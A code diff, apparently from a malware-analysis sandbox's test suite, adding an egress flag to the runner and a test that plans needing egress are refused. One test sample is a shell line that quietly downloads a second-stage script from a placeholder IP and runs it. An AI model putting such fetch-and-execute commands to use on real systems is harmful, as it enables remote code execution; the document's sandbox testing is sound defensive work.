@@ -50,7 +50,7 @@ TEST(runner_runs_a_script_and_serves_what_it_asks_for)
 	bool asked = false;
 	if (!can_box())
 		SKIP("no boxes here");
-	CHECK_SAY(lab_runner_open(&r, "/tmp", &fault) == 0, "%s", fault.text);
+	CHECK_SAY(lab_runner_open(&r, "/tmp", false, &fault) == 0, "%s", fault.text);
 	const struct run_plan plan = {
 		.sample = BYTES("#!/bin/sh\nwget -q http://203.0.113.80/second.sh -O s && sh s && cat second\n"), .sha256 = "00",
 		.type = "script", .architecture = "", .limits = {.time_ms = 20000}, .served = serve_script, .arg = &asked};
@@ -67,6 +67,12 @@ TEST(runner_runs_a_script_and_serves_what_it_asks_for)
 	const struct run_plan other = {.sample = BYTES("MZ"), .sha256 = "00", .type = "dos", .architecture = ""};
 	CHECK(lab_runner_give(r, &other, &fault) == 0);
 	CHECK(wait_run(r, &run, &fault) == 1 && run == NULL && strstr(fault.text, "\"dos\""));
+	/* It was opened without egress: a plan with one is not run at all. */
+	const struct egress_plan leaves = {.netns = -1};
+	struct run_plan out = plan;
+	out.egress = &leaves;
+	CHECK(lab_runner_give(r, &out, &fault) == 0);
+	CHECK(wait_run(r, &run, &fault) == 1 && run == NULL && strstr(fault.text, "lets nothing leave"));
 	lab_runner_close(r);
 }
 
@@ -81,7 +87,7 @@ TEST(limits_end_a_sample_and_are_named)
 	};
 	if (!can_box())
 		SKIP("no boxes here");
-	CHECK_SAY(lab_runner_open(&r, "/tmp", &fault) == 0, "%s", fault.text);
+	CHECK_SAY(lab_runner_open(&r, "/tmp", false, &fault) == 0, "%s", fault.text);
 	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
 		struct run *run = NULL;
 		const struct run_plan plan = {.sample = bytes_of_text(cases[i].script), .sha256 = "00", .type = "script",
@@ -103,7 +109,7 @@ TEST(runner_that_is_killed_is_gone_and_leaves_nothing)
 	char children[64] = "";
 	if (!can_box())
 		SKIP("no boxes here");
-	CHECK_SAY(lab_runner_open(&r, "/tmp", &fault) == 0, "%s", fault.text);
+	CHECK_SAY(lab_runner_open(&r, "/tmp", false, &fault) == 0, "%s", fault.text);
 	const struct run_plan plan = {.sample = BYTES("sleep 2; sleep 2; while :; do :; done\n"), .sha256 = "00", .type = "script",
 				      .architecture = "", .limits = {.time_ms = 20000}};
 	CHECK(lab_runner_give(r, &plan, &fault) == 0);
